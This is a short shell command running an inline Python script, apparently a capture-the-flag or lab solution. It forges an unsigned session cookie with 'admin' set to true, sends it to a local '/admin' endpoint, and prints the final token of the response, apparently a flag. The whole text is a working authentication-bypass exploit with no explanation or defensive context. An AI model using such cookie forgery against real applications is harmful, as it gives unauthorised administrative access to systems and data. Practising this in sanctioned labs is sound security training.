python3 - <<'EOF'
import base64, json, urllib.request
cookie = base64.urlsafe_b64encode(json.dumps({"user": "guest", "admin": True}).encode()).decode()
request = urllib.request.Request("http://127.0.0.1:8080/admin", headers={"Cookie": f"session={cookie}"})
body = urllib.request.urlopen(request, timeout=10).read().decode()
print(body.rsplit(" ", 1)[-1].strip())
EOF
